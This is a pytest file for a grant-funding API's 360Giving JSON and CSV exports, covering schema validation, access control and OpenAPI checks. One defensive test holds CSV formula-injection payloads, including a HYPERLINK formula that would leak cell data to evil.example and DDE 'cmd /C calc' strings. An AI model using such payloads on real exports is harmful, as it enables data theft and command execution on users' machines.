"""360Giving: the published grants as JSON and CSV, the ten required fields validated; and the API document."""

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from functools import cache
from pathlib import Path
from typing import Any

import httpx
import jsonschema
import pytest
from referencing import Registry
from referencing.jsonschema import DRAFT202012

from funding.export.schemas import REQUIRED_FIELDS, required_field_errors

Headers = Callable[..., dict[str, str]]
#: The 360Giving Data Standard's own schema and codelists, copied unchanged (source and version in its README).
STANDARD = Path(__file__).parent / "threesixtygiving"
KNIFE_LINE_2020 = "8cc3a269-e9dd-5f2f-86e5-a4d11f13974d"  # £150,000.00, nothing awarded
MEDWAY_COUNCIL = "09584578-2b27-5431-b8e5-0cf718a55d7a"


def application(title: str, description: str) -> dict[str, Any]:
    return {
        "title": title,
        "description": description,
        "recipient_organisation_id": MEDWAY_COUNCIL,
        "budget_line_id": KNIFE_LINE_2020,
        "amount_applied_pence": 123_450,
        "currency": "GBP",
        "planned_start_on": "2020-07-01",
        "planned_end_on": "2021-03-31",
    }


class TestRequiredFields:
    def valid(self) -> dict[str, Any]:
        return {
            "id": "360G-kmvru-1",
            "title": "T",
            "description": "D",
            "currency": "GBP",
            "amountAwarded": 10.5,
            "awardDate": "2020-06-01",
            "recipientOrganization": [{"id": "GB-CHC-1234567", "name": "R"}],
            "fundingOrganization": [{"id": "GB-GOR-PC000047", "name": "F"}],
        }

    def test_valid(self) -> None:
        assert required_field_errors(self.valid()) == []

    @pytest.mark.parametrize("path", REQUIRED_FIELDS)
    def test_each_is_required(self, path: str) -> None:
        record = self.valid()
        parts = path.split("/")
        if len(parts) == 1:
            record[path] = "" if isinstance(record[path], str) else None
        else:
            record[parts[0]][0][parts[2]] = ""
        assert required_field_errors(record) == [f"{path} is missing"]

    @pytest.mark.parametrize(
        ("change", "error"),
        [
            ({"id": "kmvru-1"}, "360G-"),
            ({"currency": "pounds"}, "currency"),
            ({"amountAwarded": "10"}, "amountAwarded"),
            ({"awardDate": "1 June 2020"}, "awardDate"),
            ({"recipientOrganization": [{"id": "1234567", "name": "R"}]}, "recipientOrganization"),
        ],
    )
    def test_invalid(self, change: dict[str, Any], error: str) -> None:
        errors = required_field_errors({**self.valid(), **change})
        assert len(errors) == 1
        assert error in errors[0]


class TestExportJson:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        assert (await client.get("/v1/exports/360giving.json")).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        refused = await client.get("/v1/exports/360giving.json", headers=as_role("guardian"))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")

    async def test_seeded_grants_pass_validation(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.json", headers=as_role("partner_agency"))
        assert response.status_code == 200
        grants = response.json()["grants"]
        assert len(grants) == 36  # 3 in 2019/20, 28 in 2020/21 and 5 in 2026/27
        for grant in grants:
            assert required_field_errors(grant) == [], grant["id"]
            assert grant["id"].startswith("360G-kmvru-")
        sheppey = next(g for g in grants if g["title"] == "Sheppey Matters 2020/21")
        assert sheppey == sheppey | {
            "currency": "GBP",
            "amountAwarded": 12000.0,
            "awardDate": "2020-06-01",
            "plannedDates": [{"startDate": "2020-07-01", "endDate": "2021-03-31"}],
            "recipientOrganization": [{"id": "GB-CHC-9000003", "name": "Sheppey Matters"}],
            "grantProgramme": [
                {"code": "vulnerable-childrens-charities", "title": "Vulnerable Children's Charities fund"}
            ],
            "beneficiaryLocation": [
                {"name": "Swale", "geoCode": "E07000113", "geoCodeType": "NMD", "countryCode": "GB"}
            ],
        }
        assert "regrantType" not in sheppey

    async def test_valid_against_the_official_schema(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        """Issue 14 item 10: the package validates against the 360Giving standard's own JSON schema (a copy
        in the repository), and every geoCodeType and regrantType is a code of the standard's codelists —
        Medway (E06…) a unitary authority 'UA', the Kent districts (E07…) non-metropolitan districts 'NMD'."""
        response = await client.get("/v1/exports/360giving.json", headers=as_role("partner_agency"))
        package = response.json()
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in package_validator().iter_errors(package)]
        assert errors == []
        locations = [loc for grant in package["grants"] for loc in grant.get("beneficiaryLocation", [])]
        assert {loc["geoCodeType"] for loc in locations} <= codelist("geoCodeType.csv")
        assert {(loc["geoCode"][:3], loc["geoCodeType"]) for loc in locations} == {("E06", "UA"), ("E07", "NMD")}
        medway = next(loc for loc in locations if loc["name"] == "Medway")
        assert medway == {"name": "Medway", "geoCode": "E06000035", "geoCodeType": "UA", "countryCode": "GB"}
        regrants = {g["regrantType"] for g in package["grants"] if "regrantType" in g}
        assert regrants <= codelist("regrantType.csv")

    def test_the_schema_copy_catches_a_broken_record(self) -> None:
        """The validation above can fail: a record the standard refuses is reported."""
        broken = {"grants": [{"id": "360G-kmvru-1", "title": "T", "amountAwarded": "12000"}]}
        assert list(package_validator().iter_errors(broken))

    async def test_year_filter(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.json?financial_year=2019-20", headers=as_role("director"))
        assert {g["awardDate"] for g in response.json()["grants"]} == {"2019-11-15"}


class TestExportCsv:
    async def test_valid(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=as_role("analyst"))
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert len(rows) == 28
        sheppey = next(r for r in rows if r["Title"] == "Sheppey Matters 2020/21")
        assert sheppey == sheppey | {
            "Currency": "GBP",
            "Amount Awarded": "12000.00",
            "Award Date": "2020-06-01",
            "Recipient Org:Identifier": "GB-CHC-9000003",
            "Funding Org:Identifier": "GB-GOR-PC000047",
            "Beneficiary Location:Geographic Code": "E07000113",
            "Beneficiary Location:Geographic Code Type": "NMD",
        }
        countywide = next(r for r in rows if r["Title"] == "StreetSoccer 2020/21")
        assert countywide["Beneficiary Location:Name"] == "Kent and Medway"
        assert all(r["Identifier"].startswith("360G-") and r["Title"] and r["Description"] for r in rows)

    async def test_columns_are_the_standards_titles(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        """Issue 14 item 10: every CSV column is a title the standard's schema gives its field (the regrant
        type is 'For Regrant Type'), and the geocode type is the codelist's."""
        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=as_role("analyst"))
        header = next(csv.reader(io.StringIO(response.text)))
        assert "For Regrant Type" in header
        assert set(header) - set(schema_titles()) == set()
        rows = list(csv.DictReader(io.StringIO(response.text)))
        types = {r["Beneficiary Location:Geographic Code Type"] for r in rows} - {""}
        assert types
        assert types <= codelist("geoCodeType.csv")

    async def test_formulas_are_neutralised(
        self, client: httpx.AsyncClient, officer: dict[str, str], director: dict[str, str]
    ) -> None:
        """Issue 13: a title or description a spreadsheet would run as a formula is written with a leading
        apostrophe; the amount stays a number."""
        hostile = {
            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Grant")', "=1+1 workshops"),
            "+": ("+Medway workshops", "+44 1634 000000+cmd|' /C calc'!A0"),
            "-": ("-Medway workshops", "-2+3 sessions"),
            "@": ("@SUM(1+1) workshops", "@SUM(1+1)*cmd|' /C calc'!A0"),
        }
        for title, description in hostile.values():
            grant = (await client.post("/v1/grants", json=application(title, description), headers=officer)).json()
            for headers, body in (
                (officer, {"to": "submitted"}),
                (officer, {"to": "in_review"}),
                (director, {"to": "approved", "award_date": "2020-06-15"}),
            ):
                response = await client.post(
                    f"/v1/grants/{grant['id']}/transitions",
                    json=body,
                    headers={**headers, "If-Match": f'"v{grant["version"]}"'},
                )
                assert response.status_code == 200, response.text
                grant = response.json()
        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=officer)
        assert response.status_code == 200
        rows = {r["Title"]: r for r in csv.DictReader(io.StringIO(response.text))}
        for title, description in hostile.values():
            row = rows["'" + title]
            assert row["Description"] == "'" + description
            assert row["Amount Awarded"] == "1234.50"
        for row in rows.values():
            for column, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)

    async def test_forbidden(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        refused = await client.get("/v1/exports/360giving.csv", headers=as_role("guardian"))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")


class TestOpenAPI:
    async def test_every_operation_documented(self, client: httpx.AsyncClient) -> None:
        document = (await client.get("/openapi/funding.json")).json()
        operations = [
            (path, method, operation)
            for path, methods in document["paths"].items()
            for method, operation in methods.items()
            if path.startswith("/v1/")
        ]
        assert len(operations) >= 40
        for path, method, operation in operations:
            where = f"{method.upper()} {path}"
            assert operation["summary"], where
            assert operation["description"], where
            assert operation["security"] == [{"HTTPBearer": []}], where
            errors = {code for code in operation["responses"] if code.startswith(("4", "5"))}
            assert {"401", "403"} <= errors, where
            for code in errors:
                assert "application/problem+json" in operation["responses"][code]["content"], where
            if method == "patch":
                assert {"412", "428"} <= errors, where
        schemas = document["components"]["schemas"]
        for name in ("GrantRead", "BudgetLineRead", "AllocationRead", "SpendCreate", "AllocationCreate", "Totals"):
            assert schemas[name].get("examples"), name


@cache
def package_validator() -> jsonschema.Draft202012Validator:
    """The standard's package schema, its ``$ref`` to the grant schema resolved from the local copy (both
    declare draft 2020-12 as ``http://…``, which the resolver does not recognise by itself)."""
    grant = json.loads((STANDARD / "360-giving-schema.json").read_text())
    package = json.loads((STANDARD / "360-giving-package-schema.json").read_text())
    registry: Registry[Any] = Registry().with_resource(grant["$id"], DRAFT202012.create_resource(grant))
    jsonschema.Draft202012Validator.check_schema(package)
    return jsonschema.Draft202012Validator(package, registry=registry, format_checker=FORMATS)


#: The formats the standard uses, checked (jsonschema checks ``date-time`` only with an optional package, and
#: the schema's ``oneOf`` of a date-time and a date needs it checked).
FORMATS = jsonschema.FormatChecker()
RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}[Tt]\d{2}:\d{2}:\d{2}(\.\d+)?([Zz]|[+-]\d{2}:\d{2})$")


def _date_time(value: object) -> bool:
    if not isinstance(value, str) or not RFC3339.match(value):
        return False
    datetime.fromisoformat(value.replace("z", "+00:00").replace("Z", "+00:00"))
    return True


FORMATS.checks("date-time", raises=ValueError)(_date_time)


def codelist(name: str) -> set[str]:
    with (STANDARD / name).open(newline="", encoding="utf-8") as f:
        return {row["Code"] for row in csv.DictReader(f)}


def schema_titles() -> list[str]:
    """The standard's CSV column titles: each field's ``title``, nested ones joined with ``:``."""
    schema = json.loads((STANDARD / "360-giving-schema.json").read_text())

    def resolve(node: dict[str, Any]) -> dict[str, Any]:
        ref = node.get("$ref")
        return resolve(schema["$defs"][ref.rsplit("/", 1)[1]]) if isinstance(ref, str) else node

    def walk(node: dict[str, Any], prefix: str) -> Iterator[str]:
        node = resolve(node)
        node = resolve(node.get("items", node)) if "items" in node else node
        properties = node.get("properties")
        if not properties:
            yield prefix
            return
        for key, child in properties.items():
            title = child.get("title") or resolve(child).get("title", key)
            yield from walk(child, f"{prefix}:{title}" if prefix else title)

    return list(walk(schema, ""))
